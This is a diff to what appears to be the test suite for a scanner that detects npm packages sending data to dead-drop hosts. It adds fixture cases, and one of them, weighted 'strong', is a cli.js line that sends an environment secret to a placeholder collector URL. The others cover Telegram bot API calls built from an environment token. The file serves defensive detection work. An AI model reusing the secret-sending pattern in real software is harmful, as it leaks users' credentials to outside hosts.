@@ -11,6 +11,14 @@ const workers = ['none', 'workers', 'dev'].join('.');
 examine(sendsToDeadDrop, {
   speaks: [
     {
+      when: 'a variable says where a request goes, and stands in what it asks there as well',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const root = process.env.SECRET || 'https://${collector}'; fetch(root + '/' + process.env.SECRET)`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what is read is sent through a tunnel',
       files: {
         'package.json': { name: 'x', bin: 'cli.js' },
@@ -271,6 +279,20 @@ examine(sendsToDeadDrop, {
         'package.json': { name: 'x', bin: 'cli.js' },
         '.env.example': 'TOKEN=',
         'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/getUpdates')`,
+      },
+    },
+    {
+      when: 'a command has the token of its bot from the environment, and where its user runs the API of bots himself',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        '.env.example': 'TOKEN=',
+        'cli.js': `const root = process.env.BOT_API || 'https://${telegram}'; fetch(root + '/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: process.argv[2] })`,
+      },
+    },
+    {
+      when: 'the token of the environment goes to the bot API that its user runs, or to that of all bots, from a class that is made by a caller',
+      files: {
+        'index.js': `exports.Bot = class { constructor(token = process.env.TOKEN) { this.base = (process.env.BOT_API || 'https://${telegram}') + '/bot' + token } send(text) { return fetch(this.base + '/sendMessage', { method: 'POST', body: text }) } }`,
       },
     },
     {
